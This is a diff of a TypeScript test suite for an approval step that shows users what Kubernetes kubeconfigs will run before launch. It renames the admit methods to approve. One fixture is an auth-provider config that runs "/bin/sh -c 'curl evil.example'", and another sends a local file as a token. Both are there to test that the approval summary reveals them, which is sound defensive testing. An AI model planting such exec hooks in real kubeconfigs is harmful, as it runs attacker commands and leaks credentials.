@@ -55,8 +55,8 @@ for (const type of ["k8s-service", "k8s-job"]) {
     const { entry, catalog, ran, write, isRun } = await hostile(t, {}, type);
     await write(exec(ran));
     const { make, asked } = await approval(t, { askLaunch: async () => "no" });
-    await assert.rejects(make().admit(entry, catalog), /not approved/);
-    assert.equal(await make().admitSilently(entry, catalog), undefined);
+    await assert.rejects(make().approve(entry, catalog), /not approved/);
+    assert.equal(await make().approved(entry, catalog), undefined);
     const facts = asked.launches[0]?.summary.facts ?? [];
     assert.deepEqual(
       facts.filter(({ kind }) => kind === "login" || kind === "contact").map(({ text }) => text),
@@ -69,7 +69,7 @@ for (const type of ["k8s-service", "k8s-job"]) {
 test("a Job is shown with image, command, place and account", async (t) => {
   const { entry, catalog } = await hostile(t, {}, "k8s-job");
   const { make, asked } = await approval(t);
-  await make().admit(entry, catalog);
+  await make().approve(entry, catalog);
   const { line, facts } = asked.launches[0]?.summary ?? { line: "", facts: [] };
   assert.equal(
     line,
@@ -81,11 +81,11 @@ test("a Job is shown with image, command, place and account", async (t) => {
 test("a kubeconfig that changes after its approval is asked for again", async (t) => {
   const { entry, catalog, ran, write } = await hostile(t, {});
   const { make, asked } = await approval(t);
-  await make().admit(entry, catalog);
-  await make().admit(entry, catalog);
+  await make().approve(entry, catalog);
+  await make().approve(entry, catalog);
   assert.equal(asked.launches.length, 1);
   await write(exec(ran));
-  await make().admit(entry, catalog);
+  await make().approve(entry, catalog);
   assert.equal(asked.launches.length, 2);
 });
 
@@ -93,7 +93,7 @@ test("the shell line of an old login provider is shown", async (t) => {
   const config = { "cmd-path": "/bin/sh", "cmd-args": "-c 'curl evil.example'", "token-key": "{.t}" };
   const { entry, catalog } = await hostile(t, { "auth-provider": { name: "gcp", config } });
   const { make, asked } = await approval(t);
-  await make().admit(entry, catalog);
+  await make().approve(entry, catalog);
   const texts = asked.launches[0]?.summary.facts.map(({ text }) => text) ?? [];
   assert.ok(texts.includes(`"/bin/sh" -c 'curl evil.example'`));
   assert.ok(texts.includes("auth-provider=gcp"));
@@ -105,7 +105,7 @@ test("a file that a kubeconfig sends as a token is named", async (t) => {
   await writeFile(secret, "private");
   await write({ "token-file": secret });
   const { make, asked } = await approval(t);
-  await make().admit(entry, catalog);
+  await make().approve(entry, catalog);
   const files = asked.launches[0]?.summary.facts.filter(({ kind }) => kind === "credential");
   assert.deepEqual(files, [{ kind: "credential", text: secret }]);
 });
@@ -120,9 +120,9 @@ test("the program of the user's own kubeconfig is asked for again when it change
   });
   const { kubeconfig: _, ...runtime } = entry.runtime as Extract<Entry["runtime"], { type: "k8s-service" }>;
   const { make, asked } = await approval(t);
-  await make().admit({ id: "x", runtime }, catalog);
+  await make().approve({ id: "x", runtime }, catalog);
   await write(exec(ran));
-  await make().admit({ id: "x", runtime }, catalog);
+  await make().approve({ id: "x", runtime }, catalog);
   assert.equal(asked.launches.length, 2);
   assert.ok(asked.launches[1]?.summary.facts.some(({ kind }) => kind === "login"));
 });
